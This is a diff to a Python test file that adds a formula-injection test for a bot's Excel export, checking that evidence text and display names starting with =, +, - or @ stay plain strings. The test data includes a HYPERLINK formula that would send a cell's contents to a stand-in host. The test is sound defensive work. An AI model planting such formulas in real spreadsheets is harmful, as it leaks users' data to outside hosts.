@@ -14,13 +14,13 @@ import openpyxl
 import pytest
 import yaml
 from icalendar import Calendar
-from sqlalchemy import func, select
+from sqlalchemy import func, select, update
 from sqlalchemy.engine import Engine
 from sqlalchemy.orm import Session
 
 from bot.cli import main
 from bot.db.members import ensure_member
-from bot.db.models import AuditRow, EvidenceRow, MetricRow, MetricValueRow, OccurrenceRow, ReviewRow
+from bot.db.models import AuditRow, EvidenceRow, MemberRow, MetricRow, MetricValueRow, OccurrenceRow, ReviewRow
 from bot.domain.workdays import WorkCalendar
 from bot.engine.sync import sync_plan
 from bot.exports.calendar import unit_calendar
@@ -378,3 +378,24 @@ def test_cli_ics_writes_the_unit_calendar_and_refuses_an_unknown_unit(
     assert "Lỗi câu lệnh" in err and "Không có đơn vị \"SOGD\"" in err and "TCCB" in err
     assert main(["ics", "--config", cfg]) == 2
     assert "thiếu tham số bắt buộc" in capsys.readouterr().err
+
+
+def test_user_text_is_written_as_text_never_as_a_formula(seeded: Seeded) -> None:
+    """Formula injection: evidence text and a display name starting with =, +, -, @ stay plain strings."""
+    evil = '=HYPERLINK("http://x/?d="&A1,"Bấm")'
+    with Session(seeded.engine, expire_on_commit=False) as s, s.begin():
+        head = load_actor(s, HEAD_TCCB, HEAD_TCCB)
+        s.execute(update(MemberRow).where(MemberRow.chat_id == HEAD_TCCB).values(name="=1+1 Trưởng"))
+        occ = s.scalar(select(OccurrenceRow.id).where(OccurrenceRow.unit == "TCCB", OccurrenceRow.status == "open")
+                       .order_by(OccurrenceRow.id).limit(1))
+        for text in (evil, "+SUM(1,2)", "-2+3", "@cmd"):
+            tasks.add_evidence(s, head, occ, Event(NOW), kind="text", text=text)
+    with Session(seeded.engine) as s:
+        raw = build_workbook(s, TODAY)
+    wb = openpyxl.load_workbook(io.BytesIO(raw))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    values = {c.value for c in cells if isinstance(c.value, str)}
+    assert any(evil in v for v in values) and any(v.startswith("=1+1 Trưởng") for v in values)
+    with zipfile.ZipFile(io.BytesIO(raw)) as z:  # nothing Excel would evaluate
+        assert not [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]
